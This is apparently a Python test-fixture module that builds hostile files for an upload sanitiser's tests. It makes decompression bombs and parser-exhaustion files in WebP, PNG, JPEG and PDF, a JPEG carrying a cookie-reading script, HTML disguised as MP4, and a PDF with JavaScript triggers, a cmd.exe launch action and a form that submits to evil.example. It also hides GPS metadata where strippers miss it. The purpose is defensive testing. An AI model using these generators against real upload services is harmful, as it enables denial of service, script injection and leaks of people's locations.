"""Hostile and metadata-laden files, built in code (nothing binary is committed).

Used by the upload tests and by bench/upload_bomb.py.
"""

from __future__ import annotations

import base64
import io
import struct
import zlib

GPS_TEXT = "+07.7123-109.0123"
XMP_UUID = bytes.fromhex("BE7ACFCB97A942E89C71999491E3AFAC")
SCRIPT = b"<html><body><script>document.title='XSS:'+document.cookie</script></body></html>"


def xmp_packet(text: str = GPS_TEXT) -> bytes:
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        'xmlns:exif="http://ns.adobe.com/exif/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        f'exif:GPSLatitude="{text}" dc:creator="Siti Pelapor"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    ).encode()


# --- Images ------------------------------------------------------------------------


class _Bits:
    """An LSB-first bit writer, as the WebP lossless (VP8L) bitstream wants it."""

    def __init__(self) -> None:
        self.value = 0
        self.length = 0

    def put(self, value: int, width: int) -> None:
        self.value |= (value & ((1 << width) - 1)) << self.length
        self.length += width

    def to_bytes(self) -> bytes:
        return self.value.to_bytes((self.length + 7) // 8, "little")


def webp_bomb(width: int = 13000, height: int = 13000, rgb: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    """A valid lossless WebP of one colour: a few dozen bytes that decode to width × height pixels.

    Every prefix code has a single symbol, so each pixel costs zero bits in the stream.
    """
    bits = _Bits()
    bits.put(width - 1, 14)
    bits.put(height - 1, 14)
    bits.put(0, 1)  # alpha not used
    bits.put(0, 3)  # version 0
    bits.put(0, 1)  # no transform
    bits.put(0, 1)  # no colour cache
    bits.put(0, 1)  # no meta prefix codes
    for symbol in (rgb[1], rgb[0], rgb[2], 255, 0):  # green, red, blue, alpha, distance
        bits.put(1, 1)  # a simple code
        bits.put(0, 1)  # with one symbol
        bits.put(1, 1)  # of eight bits
        bits.put(symbol, 8)
    payload = b"\x2f" + bits.to_bytes()
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload + b"\x00" * (len(payload) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def jpeg_with_script(size=(32, 24)) -> bytes:
    """A real JPEG whose comment segment is an HTML page with a script."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (30, 90, 160)).save(out, "JPEG", comment=SCRIPT)
    return out.getvalue()


def jpeg_with_location(size=(40, 30)) -> bytes:
    """A JPEG with EXIF (camera, GPS), XMP (GPS, creator) and a comment."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0110] = "Model X"
    exif[0x8825] = {1: "S", 2: (7.0, 42.0, 44.0), 3: "E", 4: (109.0, 0.0, 44.0)}
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 40)).save(
        out, "JPEG", exif=exif.tobytes(), xmp=xmp_packet(), comment=b"Rumah Siti Pelapor"
    )
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _zeros_deflated(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    block = bytes(1 << 20)
    parts = [compressor.compress(block) for _ in range(size >> 20)]
    return b"".join(parts) + compressor.flush()


def png_idat_bomb(inflated: int = 1 << 30) -> bytes:
    """A 1000 × 1000 grey PNG whose image data stream inflates to `inflated` bytes (1 GiB by default)."""
    header = struct.pack(">IIBBBBB", 1000, 1000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", _zeros_deflated(inflated))
        + _png_chunk(b"IEND", b"")
    )


def png_text_bomb(inflated: int = 1 << 30) -> bytes:
    """An 8 × 8 PNG with a compressed text chunk that inflates to `inflated` bytes."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (8, 8), 128).save(out, "PNG")
    data = out.getvalue()
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + _zeros_deflated(inflated))
    return data[:33] + ztxt + data[33:]  # right after IHDR


def _jpeg_segments(data: bytes) -> list[bytes]:
    """A JPEG cut into its marker segments, each start of scan with the entropy-coded data that follows."""
    segments, pos = [], 2
    while data[pos + 1] != 0xD9:
        end = pos + 2 + struct.unpack(">H", data[pos + 2 : pos + 4])[0]
        if data[pos + 1] == 0xDA:
            while True:
                end = data.index(b"\xff", end)
                if data[end + 1] == 0 or 0xD0 <= data[end + 1] <= 0xD7:
                    end += 2
                else:
                    break
        segments.append(data[pos:end])
        pos = end
    return segments


def jpeg_many_scans(size: int = 64, scans: int = 1000) -> bytes:
    """A valid progressive grey JPEG whose smallest AC scan is repeated until it has `scans` scans.

    Each repetition only refines coefficients that are already zero, so the picture is unchanged;
    but the decoder walks every block of the image once per scan: 10,000 scans of 5600 x 5600
    (633 KB) took 34 s of CPU.
    """
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (size, size), 128).save(out, "JPEG", progressive=True, quality=90)
    segments = _jpeg_segments(out.getvalue())

    def is_ac_scan(segment: bytes) -> bool:
        return segment[1] == 0xDA and segment[5 + 2 * segment[4]] > 0  # spectral selection starts past DC

    scan_segments = [s for s in segments if s[1] == 0xDA]
    smallest = min((s for s in segments if is_ac_scan(s)), key=len)
    repeated = [smallest] * (scans - len(scan_segments))
    at = segments.index(smallest) + 1
    return b"\xff\xd8" + b"".join(segments[:at] + repeated + segments[at:]) + b"\xff\xd9"


def jpeg_many_segments(segments: int = 5000) -> bytes:
    """A small JPEG with `segments` empty comment segments before its frame header.

    Pillow reads a JPEG's header segments in Python, one step per segment: 10 MB of them took 4-10 s.
    """
    data = jpeg_with_script()
    return data[:2] + b"\xff\xfe\x00\x02" * segments + data[2:]


def png_many_chunks(chunks: int = 50_000) -> bytes:
    """A 100 x 100 grey PNG whose image data is split into `chunks` IDAT chunks of one byte or none.

    Pillow reads chunks in Python: a 10 MB PNG of 800,000 chunks took 5-7 s to open, verify and load.
    """
    raw = zlib.compress(b"".join(b"\x00" + bytes(100) for _ in range(100)))
    parts = [raw[i : i + 1] for i in range(len(raw))]
    parts += [b""] * (chunks - len(parts))
    header = struct.pack(">IIBBBBB", 100, 100, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + b"".join(_png_chunk(b"IDAT", part) for part in parts)
        + _png_chunk(b"IEND", b"")
    )


def webp_many_frames(frames: int = 20_000) -> bytes:
    """An animated 4 x 4 WebP of `frames` identical lossless frames."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGBA", (4, 4), (10, 120, 40, 255)).save(out, "WEBP", lossless=True)
    image_chunk = out.getvalue()[12:]  # the VP8L chunk

    def chunk(fourcc: bytes, payload: bytes) -> bytes:
        return fourcc + struct.pack("<I", len(payload)) + payload + b"\x00" * (len(payload) & 1)

    three = (3).to_bytes(3, "little")  # width - 1, height - 1
    frame = chunk(b"ANMF", bytes(6) + three + three + (100).to_bytes(3, "little") + b"\x00" + image_chunk)
    header = chunk(b"VP8X", bytes((0x12, 0, 0, 0)) + three + three) + chunk(b"ANIM", bytes(6))
    body = b"WEBP" + header + frame * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


# --- PDF ---------------------------------------------------------------------------


def _image_page_pdf(image_stream_kwargs: dict, raw: bytes, *, author: str = "", metadata: bool = False) -> bytes:
    import pikepdf
    from pikepdf import Dictionary, Name

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 150))
    page = pdf.pages[0]
    image = pikepdf.Stream(pdf, raw)
    image.Type = Name.XObject
    image.Subtype = Name.Image
    for key, value in image_stream_kwargs.items():
        image[Name("/" + key)] = value
    if metadata:
        image.Metadata = pikepdf.Stream(pdf, xmp_packet(), Type=Name.Metadata, Subtype=Name.XML)
        pdf.Root.Metadata = pikepdf.Stream(pdf, xmp_packet(), Type=Name.Metadata, Subtype=Name.XML)
    page.Resources = Dictionary(XObject=Dictionary(Im0=image))
    page.Contents = pdf.make_stream(b"q 200 0 0 150 0 0 cm /Im0 Do Q")
    if author:
        pdf.docinfo["/Author"] = author
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_with_located_photo() -> bytes:
    """A PDF showing jpeg_with_location() as a DCTDecode image, with XMP on the image and the catalog."""
    from pikepdf import Name

    jpeg = jpeg_with_location()
    return _image_page_pdf(
        {"Width": 40, "Height": 30, "ColorSpace": Name.DeviceRGB, "BitsPerComponent": 8, "Filter": Name.DCTDecode},
        jpeg,
        author="Siti Pelapor",
        metadata=True,
    )


def pdf_showing_jpeg(jpeg: bytes, size: tuple[int, int], colour_space: str = "/DeviceRGB") -> bytes:
    """A one-page PDF showing `jpeg` as a DCTDecode image of `size`."""
    from pikepdf import Name

    return _image_page_pdf(
        {
            "Width": size[0],
            "Height": size[1],
            "ColorSpace": Name(colour_space),
            "BitsPerComponent": 8,
            "Filter": Name.DCTDecode,
        },
        jpeg,
    )


def pdf_with_huge_image(width: int = 60000, height: int = 60000) -> bytes:
    """A PDF whose one image claims width × height pixels (a few bytes of Flate data)."""
    from pikepdf import Name

    return _image_page_pdf(
        {
            "Width": width,
            "Height": height,
            "ColorSpace": Name.DeviceGray,
            "BitsPerComponent": 8,
            "Filter": Name.FlateDecode,
        },
        zlib.compress(bytes(4096)),
    )


def pdf_flate_bomb(inflated: int = 1 << 30, prefix: bytes = b"") -> bytes:
    """A one-page PDF whose page content stream is `prefix` and then inflates to `inflated` bytes of zeros."""
    import pikepdf
    from pikepdf import Name

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 150))
    compressor = zlib.compressobj(9)
    data = compressor.compress(prefix) + b"".join(compressor.compress(bytes(1 << 20)) for _ in range(inflated >> 20))
    stream = pikepdf.Stream(pdf, data + compressor.flush())
    stream.Filter = Name.FlateDecode
    pdf.pages[0].Contents = stream
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def _inline_image(data: bytes, filters: bytes = b"/DCT", size: tuple[int, int] = (40, 30)) -> bytes:
    width, height = size
    return b"BI /W %d /H %d /CS /RGB /BPC 8 /F %s ID " % (width, height, filters) + data + b"\nEI"


def inline_jpeg() -> bytes:
    """Page content drawing jpeg_with_location() as an inline image."""
    return b"q 40 0 0 30 10 10 cm " + _inline_image(jpeg_with_location()) + b" Q "


def pdf_with_hidden_photos() -> bytes:
    """A PDF that shows jpeg_with_location() only where metadata stripping of image XObjects does not look.

    As inline images (BI … ID <data> EI): in the page content (one of three content streams), in a
    form XObject (hex-encoded, [/AHx /DCT]), in an annotation's appearance stream (no /Subtype,
    coded ASCII85 over Flate), in a tiling pattern and in a Type 3 font's glyph; and as the page's
    thumbnail (/Thumb, no /Subtype).
    """
    import pikepdf
    from pikepdf import Array, Dictionary, Name

    jpeg = jpeg_with_location()
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 150))
    page = pdf.pages[0]

    def content(data: bytes, **keys) -> pikepdf.Stream:
        return pikepdf.Stream(pdf, zlib.compress(data), Filter=Name.FlateDecode, **keys)

    form = content(
        b"q 40 0 0 30 0 0 cm " + _inline_image(jpeg.hex().encode() + b">", b"[/AHx /DCT]") + b" Q",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 40, 30]),
    )
    pattern = content(
        b"q 40 0 0 30 0 0 cm " + _inline_image(jpeg) + b" Q",
        PatternType=1,
        PaintType=1,
        TilingType=1,
        BBox=Array([0, 0, 40, 30]),
        XStep=40,
        YStep=30,
        Resources=Dictionary(),
    )
    glyph = content(b"40 0 d0 q 40 0 0 30 0 0 cm " + _inline_image(jpeg) + b" Q")
    font = Dictionary(
        Type=Name.Font,
        Subtype=Name.Type3,
        FontBBox=Array([0, 0, 40, 30]),
        FontMatrix=Array([0.025, 0, 0, 0.025, 0, 0]),
        CharProcs=Dictionary(a=glyph),
        Encoding=Dictionary(Type=Name.Encoding, Differences=Array([97, Name.a])),
        FirstChar=97,
        LastChar=97,
        Widths=Array([40]),
    )
    page.Resources = Dictionary(XObject=Dictionary(Fm0=form), Pattern=Dictionary(P0=pattern), Font=Dictionary(T3=font))
    page.Contents = Array(
        [
            content(b"q 40 0 0 30 10 10 cm"),
            content(_inline_image(jpeg) + b" Q q 60 10 cm /Fm0 Do Q /Pattern cs /P0 scn 110 10 40 30 re f"),
            content(b"BT /T3 1 Tf (a) Tj ET"),
        ]
    )
    appearance = pikepdf.Stream(  # ASCII85 over Flate: decoded by qpdf, not streamed
        pdf,
        base64.a85encode(zlib.compress(b"q 40 0 0 30 0 0 cm " + _inline_image(jpeg) + b" Q")) + b"~>",
        Filter=Array([Name.ASCII85Decode, Name.FlateDecode]),
        BBox=Array([0, 0, 40, 30]),
    )
    stamp = Dictionary(Type=Name.Annot, Subtype=Name.Stamp, Rect=Array([10, 100, 50, 130]), AP=Dictionary(N=appearance))
    page.Annots = Array([pdf.make_indirect(stamp)])
    page.Thumb = pikepdf.Stream(
        pdf, jpeg, Width=40, Height=30, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


JS = "app.alert('pdf-js-ran')"


def pdf_with_scripts() -> bytes:
    """A PDF with JavaScript and other active content in every place a viewer looks for it."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 150))
    page = pdf.pages[0]

    def js(tag: str):
        return Dictionary(S=Name.JavaScript, JS=String(f"{JS}; // {tag}"))

    pdf.Root.OpenAction = js("open")
    pdf.Root.AA = Dictionary(WC=js("will-close"))
    page.obj.AA = Dictionary(O=js("page-open"), C=js("page-close"))
    embedded = pikepdf.Stream(pdf, b"secret attachment", Type=Name.EmbeddedFile)
    filespec = Dictionary(Type=Name.Filespec, F=String("lampiran.txt"), EF=Dictionary(F=embedded))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("doc"), js("name-tree")])),
        EmbeddedFiles=Dictionary(Names=Array([String("lampiran.txt"), filespec])),
    )
    uri = Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=Array([js("next-chain")]))
    link_ok = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 20]), A=uri, T=String("Siti Pelapor"))
    )
    link_js = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 30, 50, 50]), A=js("link"))
    )
    launch = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([60, 0, 100, 20]),
            A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
        )
    )
    attachment = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([110, 0, 130, 20]), FS=filespec)
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("nama"),
            Rect=Array([0, 60, 100, 80]),
            AA=Dictionary(K=js("keystroke")),
            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        )
    )
    page.obj.Annots = Array([link_ok, link_js, launch, attachment, field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pikepdf.Stream(pdf, b"<xdp><script>x</script></xdp>"))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


# --- MP4 ---------------------------------------------------------------------------


def mp4_box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def mp4_with_xmp(text: str = GPS_TEXT) -> bytes:
    """ftyp, a top-level XMP uuid box (GPS, creator), moov with a track-level one and udta, then mdat."""
    xmp = mp4_box(b"uuid", XMP_UUID + xmp_packet(text))
    track = mp4_box(b"trak", mp4_box(b"tkhd", bytes(84)) + mp4_box(b"uuid", XMP_UUID + xmp_packet(text)))
    moov = mp4_box(b"moov", mp4_box(b"mvhd", bytes(100)) + track + mp4_box(b"udta", mp4_box(b"\xa9xyz", text.encode())))
    return mp4_box(b"ftyp", b"isom\x00\x00\x02\x00isommp42") + xmp + moov + mp4_box(b"mdat", b"FRAMEDATA" * 10)


def html_as_mp4() -> bytes:
    """An HTML page whose bytes 4-8 read "ftyp", all an MP4 check of four bytes looks at."""
    return b"<!--ftyp-->" + SCRIPT


def mp4_with_location_after_a_broken_box(where: str) -> bytes:
    """ftyp, a box of impossible size (4 bytes) at the top level or inside moov, then moov/udta/©xyz
    with the location: a walk that stops at the broken box never reaches it."""
    ftyp = mp4_box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41")
    broken = struct.pack(">I4s", 4, b"junk")
    udta = mp4_box(b"udta", mp4_box(b"\xa9xyz", GPS_TEXT.encode() + b"/Rumah Siti Pelapor"))
    mdat = mp4_box(b"mdat", b"FRAMEDATA" * 10)
    if where == "top":
        return ftyp + mp4_box(b"free", b"") + broken + mp4_box(b"moov", mp4_box(b"mvhd", bytes(100)) + udta) + mdat
    trak = struct.pack(">I4s", 4000, b"trak") + mp4_box(b"tkhd", bytes(84))  # claims more than moov holds
    return ftyp + mp4_box(b"moov", mp4_box(b"mvhd", bytes(100)) + trak + udta) + mdat


def ebml(element_id: int, payload: bytes, *, unknown_size: bool = False) -> bytes:
    id_bytes = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    size = b"\x01\xff\xff\xff\xff\xff\xff\xff" if unknown_size else (0x01 << 56 | len(payload)).to_bytes(8, "big")
    return id_bytes + size + payload


def webm_with_location(doc_type: bytes = b"webm") -> bytes:
    """An EBML header, then a Segment with a title, a track, a cluster and tags naming a place."""
    header = ebml(0x1A45DFA3, ebml(0x4286, b"\x01") + ebml(0x4282, doc_type))
    info = ebml(0x1549A966, ebml(0x7BA9, b"Rumah Siti Pelapor") + ebml(0x4D80, b"Chrome"))
    tracks = ebml(0x1654AE6B, ebml(0xAE, ebml(0xD7, b"\x01")))
    cluster = ebml(0x1F43B675, ebml(0xE7, b"\x00") + ebml(0xA3, b"FRAMEDATA"))
    tags = ebml(0x1254C367, ebml(0x7373, b"LOCATION " + GPS_TEXT.encode()))
    return header + ebml(0x18538067, info + tracks + cluster + tags)


def pdf_many_objects(count: int, *, in_streams: int = 0) -> bytes:
    """A one-page PDF padded with `count` empty objects, or with `count` object streams that each claim
    `in_streams` objects (their /N); no cross-reference table, which qpdf rebuilds by scanning."""
    head = (
        b"%PDF-1.5\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >> endobj\n"
    )
    if in_streams:
        body = b"".join(
            b"%d 0 obj << /Type /ObjStm /N %d /First 0 /Length 0 >> stream\n\nendstream endobj\n" % (n, in_streams)
            for n in range(4, 4 + count)
        )
    else:
        body = b"".join(b"%d 0 obj null endobj\n" % n for n in range(4, 4 + count))
    return head + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"
